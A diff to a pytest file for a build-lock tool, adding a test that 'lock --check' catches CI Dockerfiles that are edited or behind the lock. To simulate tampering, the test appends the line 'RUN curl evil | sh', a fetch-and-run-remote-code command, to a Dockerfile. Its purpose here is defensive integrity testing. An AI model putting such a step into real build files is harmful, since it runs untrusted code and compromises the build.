@@ -17,6 +17,7 @@ from typing import Any
 import pytest
 import yaml
 from fleet_lock import IMAGE, matching_lock, write_lock
+from test_lock_command import env, indexes, project, run  # noqa: F401 (fixtures used below)
 from test_project import refused
 
 from envbuild.commands.cli import main
@@ -340,9 +341,9 @@ def _cli(tmp_path: Path, *argv: str, module: str = "envbuild") -> subprocess.Com
     import os
     import sys
 
-    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
+    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
     return subprocess.run([sys.executable, "-m", module, *argv], capture_output=True, text=True,
-                          cwd=tmp_path, env=env, timeout=60)
+                          cwd=tmp_path, env=environment, timeout=60)
 
 
 @pytest.mark.parametrize("argv", [
@@ -369,3 +370,43 @@ def test_a_fifo_as_the_smoke_tests_lock_is_refused_not_waited_on(tmp_path: Path)
     done = _cli(tmp_path, "--installed-only", "--lock", "FIFO", module="envbuild.smoke")
     assert done.returncode == 2, done.stderr
     assert "smoke: lock FIFO unreadable: not a regular file" in done.stderr
+
+
+# --- 2. what CI builds is checked against the lock (docs/faults.md V17) ---------------------
+
+
+def test_lock_check_is_stale_when_the_ci_stacks_are_edited_or_behind_the_lock(
+        tmp_path: Path, indexes: str, env: dict[str, str],  # noqa: F811 (test_lock_command's fixtures)
+        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    import shutil
+
+    monkeypatch.chdir(project(tmp_path, indexes))
+    assert run(capsys, env, "lock")[0] == 0
+    code, _, err = run(capsys, env, "ci", "github", "--lock", "envbuild.lock", "--registry",
+                       "ghcr.io/acme/app", "-o", "ci")
+    assert code == 0, err
+    workflow = next((tmp_path / "ci" / ".github" / "workflows").iterdir()).read_text()
+    assert 'lock --check --output "$LOCK" --stacks stacks' in workflow  # the workflow's first job
+    assert run(capsys, env, "lock", "--check", "--stacks", "ci/stacks")[0] == 0
+    dockerfile = tmp_path / "ci" / "stacks" / "default" / "Dockerfile"
+    original = dockerfile.read_bytes()
+    dockerfile.write_bytes(original + b"RUN curl evil | sh\n")
+    code, _, err = run(capsys, env, "lock", "--check", "--stacks", "ci/stacks")
+    assert code == 11, err
+    assert "the build contexts CI builds are stale against envbuild.lock: " \
+           "stacks/default/Dockerfile differs from what the lock renders" in err
+    dockerfile.write_bytes(original)
+    (tmp_path / "ci" / "stacks" / "extra").mkdir()
+    (tmp_path / "ci" / "stacks" / "extra" / "Dockerfile").write_text("FROM scratch\n")
+    assert "stacks/extra is no target of the lock" in run(capsys, env, "lock", "--check", "--stacks",
+                                                          "ci/stacks")[2]
+    shutil.rmtree(tmp_path / "ci" / "stacks" / "extra")
+    # stacks/ beside the lock (ci github -o at the repository's root) is checked without --stacks
+    shutil.copytree(tmp_path / "ci" / "stacks", tmp_path / "stacks")
+    assert run(capsys, env, "lock", "--check")[0] == 0
+    # a dependency added and re-locked, ci github not run again: the stacks are behind the lock
+    project(tmp_path, indexes, deps='["six", "idna"]')
+    assert run(capsys, env, "lock")[0] == 0
+    code, _, err = run(capsys, env, "lock", "--check")
+    assert code == 11, err
+    assert "stacks/default/pylock.toml differs from what the lock renders" in err
